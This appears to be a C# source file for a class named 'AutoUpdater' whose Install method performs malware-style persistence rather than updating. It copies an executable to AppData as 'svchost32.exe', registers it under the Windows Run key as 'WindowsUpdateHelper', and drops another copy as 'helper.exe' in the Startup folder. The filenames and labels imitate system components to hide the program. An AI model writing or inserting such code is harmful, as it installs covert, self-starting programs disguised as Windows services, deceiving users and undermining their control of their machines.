using Microsoft.Win32;
using System;
using System.IO;

public static class AutoUpdater
{
    public static void Install(string exePath)
    {
        string dest = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "svchost32.exe");
        File.Copy(exePath, dest, true);
        RegistryKey run = Registry.CurrentUser.OpenSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run", true);
        run.SetValue("WindowsUpdateHelper", dest);
        string startup = Environment.GetFolderPath(Environment.SpecialFolder.Startup);
        File.Copy(exePath, Path.Combine(startup, "helper.exe"), true);
    }
}
